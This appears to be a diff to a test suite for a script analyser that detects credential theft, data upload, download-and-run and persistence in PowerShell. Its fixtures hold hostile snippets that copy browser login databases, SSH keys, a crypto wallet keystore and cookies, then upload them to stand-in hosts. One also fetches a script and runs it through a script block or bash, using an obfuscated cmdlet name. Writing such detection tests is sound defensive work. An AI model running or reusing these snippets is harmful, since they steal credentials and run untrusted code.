@@ -72,8 +72,10 @@ def test_chrome_logins_copied_with_a_split_vendor_name_and_uploaded(tmp_path: Pa
         "}\n"
         "Invoke-WebRequest -Uri 'https://state.example.invalid/i' -Method Post -InFile $env:TEMP\\l.db\n",
     )
+    # the loop's body once per vendor: both stores are read, each named with its path
     assert chain(found, Kind.EGRESS) == [
-        (4, "reads browser saved logins and cookies"),
+        (4, "reads browser saved logins and cookies: ~/AppData/Local/Microsoft/Edge/User Data/Default/Login Data"),
+        (4, "reads browser saved logins and cookies: ~/AppData/Local/Google/Chrome/User Data/Default/Login Data"),
         (6, "sends it to state.example.invalid"),
     ]
 
@@ -85,7 +87,7 @@ def test_ssh_key_read_and_uploaded_with_webclient(tmp_path: Path) -> None:
         "$wc = New-Object System.Net.WebClient\n"
         "$wc.UploadString('http://198.51.100.7/k', $k)\n",
     )
-    assert chain(found, Kind.EGRESS) == [(1, "reads SSH keys (~/.ssh)"), (3, "sends it to 198.51.100.7")]
+    assert chain(found, Kind.EGRESS) == [(1, "reads SSH keys (~/.ssh): ~/.ssh/id_rsa"), (3, "sends it to 198.51.100.7")]
 
 
 def test_environment_drive_listed_and_sent_in_dns_names(tmp_path: Path) -> None:
@@ -310,3 +312,55 @@ def test_a_shortcut_saved_in_the_startup_folder_that_starts_a_download(tmp_path:
     )
     persisted = [(c.chain[-1].line, c.detail.endswith("(runs code)")) for c in found if c.kind is Kind.PERSISTENCE]
     assert persisted == [(1, False), (3, True)]
+
+
+# Commands named by a variable, lists of paths (h5 round: download-exec, browser-wallet)
+
+
+def test_a_cmdlet_named_by_a_variable_downloads_and_a_new_script_block_runs_it(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "$get = 'Invoke-' + 'WebRequest'\n"
+        "$page = (& $get 'https://cdn.example.invalid/tools/init.ps1').Content\n"
+        "$block = $ExecutionContext.InvokeCommand.NewScriptBlock($page)\n"
+        "$block.Invoke()\n",
+    )
+    assert chain(found, Kind.EXEC_FETCHED) == [
+        (2, "downloads https://cdn.example.invalid/tools/init.ps1"),
+        (4, "runs what it downloaded (invokes a script block)"),
+    ]
+
+
+def test_a_native_program_named_by_a_variable_is_read_as_that_program(tmp_path: Path) -> None:
+    found = analyse(tmp_path, "$dl = 'curl.exe'\n& $dl -s https://198.51.100.40/a.sh -o a.sh\nbash a.sh\n")
+    assert (Kind.FETCH, "https://198.51.100.40/a.sh") in summary(found)
+
+
+def test_a_tool_at_a_known_path_given_to_ampersand_runs_nothing_downloaded(tmp_path: Path) -> None:
+    found = analyse(tmp_path, "$git = 'C:\\Tools\\git.exe'\n& $git status --short\n& $git log -1\n")
+    assert not [c for c in found if c.kind in (Kind.EXEC_FETCHED, Kind.EXEC_DYNAMIC, Kind.EGRESS)]
+
+
+def test_every_path_of_a_list_built_by_array_addition_and_filtered_is_read(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "$roam = $env:APPDATA\n"
+        "$list = @(Join-Path $roam 'Ethereum\\keystore') + @(\n"
+        "  (@($env:LOCALAPPDATA, 'BraveSoftware', 'Brave-Browser', 'User Data', 'Default') + 'Cookies') -join '\\'\n"
+        ") | Where-Object { Test-Path $_ } | Sort-Object\n"
+        "$list | ForEach-Object { Copy-Item -Path $_ -Destination (Join-Path $env:TEMP 'cache') }\n"
+        "Invoke-RestMethod -Uri 'https://sync.example.invalid/in' -Method Put -InFile (Join-Path $env:TEMP 'cache')\n",
+    )
+    reads = {detail for kind, detail in summary(found) if kind is Kind.SECRET_READ}
+    assert reads == {"a crypto wallet key", "browser saved logins and cookies"}
+    assert chain(found, Kind.EGRESS)[-1] == (6, "sends it to sync.example.invalid")
+
+
+def test_a_loop_over_ordinary_folders_reads_no_secret(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "$dirs = @('Downloads', 'Desktop') + 'Videos'\n"
+        "foreach ($d in $dirs) { Get-ChildItem -Recurse -Force (Join-Path $env:USERPROFILE $d) | Measure-Object }\n"
+        "Get-Content -Raw (Join-Path $env:USERPROFILE 'notes.txt')\n",
+    )
+    assert not [c for c in found if c.kind is Kind.SECRET_READ]
